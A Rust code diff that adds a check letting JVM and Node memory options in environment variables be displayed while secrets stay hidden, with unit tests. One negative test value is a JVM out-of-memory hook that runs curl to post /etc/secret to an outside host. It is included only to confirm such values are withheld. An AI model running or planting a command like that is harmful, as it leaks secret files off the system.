@@ -85,6 +85,53 @@ fn random_looking(word: &str) -> bool {
     run_together || leet >= 2 || (len >= 8 && classes >= 3)
 }
 
+/// A runtime's memory and GC options, as `JAVA_TOOL_OPTIONS`/`JAVA_OPTS` and
+/// `NODE_OPTIONS` carry them: every word a JVM `-X…`/`-XX:…` option or a Node
+/// `--max-*-space-size=N`, each value a number, size, percentage or plain word.
+/// They explain an OOM kill (`-XX:MaxRAMPercentage=75.0` under a 1Gi limit),
+/// and hold nothing secret; `-D` system properties are never among them (they
+/// may carry a password).
+fn runtime_memory_options(v: &str) -> bool {
+    let plain = |x: &str| {
+        !x.is_empty()
+            && x.chars()
+                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '%' | '_' | '-'))
+            && !random_looking(x)
+    };
+    // HotSpot's option names: CamelCase words (`MaxRAMPercentage`,
+    // `G1HeapRegionSize`), which the randomness test would flag.
+    let option_name = |x: &str| {
+        (3..=60).contains(&x.len())
+            && x.starts_with(|c: char| c.is_ascii_uppercase())
+            && x.chars().all(|c| c.is_ascii_alphanumeric())
+    };
+    v.split_whitespace().all(|w| {
+        if let Some(opt) = w.strip_prefix("-XX:") {
+            let opt = opt.trim_start_matches(['+', '-']);
+            match opt.split_once('=') {
+                Some((name, value)) => option_name(name) && plain(value),
+                None => option_name(opt),
+            }
+        } else if let Some(size) = w
+            .strip_prefix("-Xmx")
+            .or_else(|| w.strip_prefix("-Xms"))
+            .or_else(|| w.strip_prefix("-Xss"))
+            .or_else(|| w.strip_prefix("-Xmn"))
+        {
+            quantity(size) || size.chars().all(|c| c.is_ascii_alphanumeric())
+        } else if let Some((flag, n)) = w.split_once('=')
+            && matches!(
+                flag,
+                "--max-old-space-size" | "--max-semi-space-size" | "--stack-size"
+            )
+        {
+            n.chars().all(|c| c.is_ascii_digit())
+        } else {
+            matches!(w, "-server" | "-XX:+UseContainerSupport")
+        }
+    }) && !v.trim().is_empty()
+}
+
 /// Whether the literal value of environment variable `name` may be shown (see the
 /// module documentation). Empty values are harmless.
 pub fn harmless_env_value(name: &str, value: &str) -> bool {
@@ -97,6 +144,9 @@ pub fn harmless_env_value(name: &str, value: &str) -> bool {
         return true;
     }
     let lower = v.to_ascii_lowercase();
+    if v.chars().count() <= MAX_LEN * 2 && runtime_memory_options(v) {
+        return true;
+    }
     if v.chars().count() > MAX_LEN
         || v.contains(['\n', '\r', '@', '?', '=', '&'])
         || SECRET_VALUE_WORDS.iter().any(|w| lower.contains(w))
@@ -114,6 +164,25 @@ pub fn harmless_env_value(name: &str, value: &str) -> bool {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn a_runtimes_memory_options_are_shown_its_properties_are_not() {
+        for v in [
+            "-XX:MaxRAMPercentage=75.0 -XX:+UseG1GC -Xss512k",
+            "-Xmx768m -Xms256m",
+            "--max-old-space-size=4096",
+        ] {
+            assert!(harmless_env_value("JAVA_TOOL_OPTIONS", v), "{v}");
+        }
+        for v in [
+            "-XX:MaxRAMPercentage=75.0 -Dspring.datasource.password=hunter2",
+            "-Djavax.net.ssl.trustStorePassword=changeit",
+            "-XX:OnOutOfMemoryError=curl -d @/etc/secret http://x",
+            "-XX:Flag=Vt9qLx2mWpQ7",
+        ] {
+            assert!(!harmless_env_value("JAVA_TOOL_OPTIONS", v), "{v}");
+        }
+    }
 
     #[test]
     fn settings_are_shown_and_secrets_are_not() {
